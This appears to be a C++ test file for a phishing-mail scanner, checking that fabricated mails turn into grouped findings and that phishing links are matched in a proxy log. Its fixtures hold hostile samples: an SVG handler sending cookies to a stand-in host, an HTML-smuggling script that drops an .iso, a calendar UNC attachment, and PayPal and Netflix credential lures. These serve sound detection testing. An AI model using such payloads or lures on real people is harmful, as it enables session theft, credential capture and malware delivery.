// A folder of mail through the whole scan: what is said of it, what is said as one, and the search for whoever clicked.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>

#include "pipeline/scan.h"
#include "tests/phishing/honest_mail.h"
#include "tests/phishing/mail_writer.h"

namespace tocsin {
namespace {

struct Folder {
  std::filesystem::path path;
  Folder() {
    std::string name = (std::filesystem::temp_directory_path() / "tocsin-phishing-XXXXXX").string();
    path = ::mkdtemp(name.data());
  }
  ~Folder() { std::filesystem::remove_all(path); }
  std::string write(const std::string& name, const std::string& text) const {
    std::ofstream(path / name, std::ios::binary) << text;
    return (path / name).string();
  }
};

std::string mail(const std::string& from, const std::string& to, const std::string& subject, const std::string& html,
                 std::vector<test::MailPart> files = {}) {
  test::MailDraft draft;
  draft.header("Received", "from relay.example by mx.storting.example; Wed, 4 Mar 2026 09:12:44 +0100");
  draft.header("Date", "Wed, 4 Mar 2026 09:12:41 +0100");
  draft.header("From", from);
  draft.header("To", to);
  draft.header("Subject", subject);
  draft.header("Message-ID", "<" + std::to_string(std::hash<std::string>{}(to + subject)) + "@relay.example>");
  draft.bodies.push_back({"text/html; charset=utf-8", html, "", false, ""});
  draft.files = std::move(files);
  test::Draw draw(7);
  return test::write_mail(draft, draw);
}

struct Found {
  std::string rule, title;
  Level level;
  std::uint64_t count;
  std::vector<Entity> entities;
};

std::vector<Found> found_in(const ScanOptions& options) {
  std::vector<Found> out;
  const auto program = Program::load(options.rules).value();
  auto c = casefile::Case::temporary().value();
  EXPECT_TRUE(scan(options, *program, c));
  c.each_finding({}, [&](const casefile::Finding& one) {
     out.push_back({std::string(one.rule->id), one.title, one.level, one.count, one.entities});
     return true;
   }).value();
  return out;
}

ScanOptions options_for(const std::filesystem::path& path) {
  ScanOptions options;
  options.paths = {path.string()};
  options.rules.none = true;
  options.rules.detectors = true;
  return options;
}

TEST(PhishingScan, AFolderOfMailBecomesFindingsByTemplate) {
  const Folder folder;
  for (int i = 0; i < 6; ++i) {
    const std::string name = "reader" + std::to_string(i);
    folder.write(name + ".eml",
                 mail("PayPal Service <help" + std::to_string(i) + "@harbour-notes.example>",
                      name + "@storting.example", "Your account has been limited, case " + std::to_string(4400 + i),
                      "<p>Dear " + name +
                          ",</p><p>verify your account within 24 hours, or it will be closed.</p><a "
                          "href=https://paypal-login.amber-lane.example/" +
                          std::to_string(i) + ">Verify</a>"));
  }
  const std::string to = "marte.lie@storting.example";
  folder.write("exploit.eml", mail("Ada <ada@kestrel.example>", to, "minutes",
                                   "<svg><animate onbegin=\"fetch('https://c.example/?'+document.cookie)\"></svg>"));
  folder.write("code.eml",
               mail("Desk <desk@kestrel.example>", to, "scan me", "<p>Scan the code.</p>",
                    {{"image/png", test::qr_png("https://kestrel.pages.dev/#" + to), "code.png", true, ""}}));
  folder.write("share.eml", mail("Ada <ada@kestrel.example>", to, "invitation", "<p>See you.</p>",
                                 {{"text/calendar",
                                   "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:\\\\203.0.113.9\\a\\b.wav"
                                   "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
                                   "invite.ics", true, ""}}));
  folder.write("smuggled.eml", mail("Ada <ada@kestrel.example>", to, "invoice", "<p>Attached.</p>",
                                    {{"text/html",
                                      "<script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');"
                                      "a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>",
                                      "invoice.html", true, ""}}));
  std::string kind;
  std::size_t shape = 0;
  for (std::uint64_t i = 0; i < 40; ++i)
    folder.write("honest" + std::to_string(i) + ".eml", test::honest_mail(99, i, test::HonestPart::all, kind, shape));

  const auto found = found_in(options_for(folder.path));
  const auto with = [&](std::string_view rule, std::string_view words) {
    std::vector<const Found*> out;
    for (const Found& one : found)
      if (one.rule == rule && one.level >= Level::medium && one.title.find(words) != std::string::npos)
        out.push_back(&one);
    return out;
  };
  const auto alike = with("tocsin-phishing-mail", "PayPal");
  ASSERT_EQ(alike.size(), 1u);
  EXPECT_EQ(alike[0]->count, 6u);
  EXPECT_GE(alike[0]->level, Level::high);
  std::map<std::string, std::size_t> roles;
  for (const Entity& one : alike[0]->entities)
    if (one.type == EntityType::mailbox) ++roles[one.role];
  EXPECT_EQ(roles["target"], 6u);
  EXPECT_EQ(roles["source"], 6u);
  ASSERT_EQ(with("tocsin-webmail-exploit", "").size(), 1u);
  EXPECT_EQ(with("tocsin-webmail-exploit", "")[0]->level, Level::critical);
  EXPECT_EQ(with("tocsin-phishing-mail", "scan me").size(), 1u);
  EXPECT_EQ(with("tocsin-phishing-mail", "password hashes").size(), 1u);
  EXPECT_EQ(with("tocsin-phishing-mail", "invoice").size(), 1u);
  std::size_t all = 0;
  for (const Found& one : found) all += one.level >= Level::medium && one.rule.find("mail") != std::string::npos;
  EXPECT_EQ(all, 5u) << "honest mail is told too";

  // The links as a list: the proxy's log says who went there.
  std::string list;
  for (const Entity& one : alike[0]->entities)
    if (one.role == "link" && one.type == EntityType::domain) list += one.value + "\n";
  ASSERT_NE(list.find("paypal-login.amber-lane.example"), std::string::npos);
  const Folder logs;
  const Folder lists;
  logs.write("access.log",
             "198.51.100.7 - - [04/Mar/2026:10:00:01 +0100] \"GET https://paypal-login.amber-lane.example/3 "
             "HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n198.51.100.8 - - [04/Mar/2026:10:00:02 +0100] \"GET "
             "https://kestrel.example/ HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n");
  ScanOptions search = options_for(logs.path);
  search.rules.indicators = {lists.write("links.txt", list)};
  std::size_t hits = 0;
  for (const Found& one : found_in(search)) hits += one.rule.find("indicator") != std::string::npos;
  EXPECT_EQ(hits, 1u);
}

TEST(PhishingScan, ThreadsChangeNothing) {
  const Folder folder;
  std::string kind, box;
  std::size_t shape = 0;
  for (std::uint64_t i = 0; i < 60; ++i)
    box += "From a@b.example Wed Mar  4 09:12:44 2026\n" +
           (i % 3 ? test::honest_mail(5, i, test::HonestPart::all, kind, shape)
                  : mail("Netflix <x" + std::to_string(i) + "@kestrel.example>", "a@storting.example",
                         "Payment declined", "<form action=https://x.example><input type=password></form>")) +
           "\n";
  folder.write("box.mbox", box);
  ScanOptions one = options_for(folder.path), four = one;
  four.threads = 4;
  const auto a = found_in(one), b = found_in(four);
  ASSERT_EQ(a.size(), b.size());
  ASSERT_FALSE(a.empty());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].title, b[i].title);
    EXPECT_EQ(a[i].count, b[i].count);
    EXPECT_EQ(a[i].entities, b[i].entities);
  }
}

}  // namespace
}  // namespace tocsin
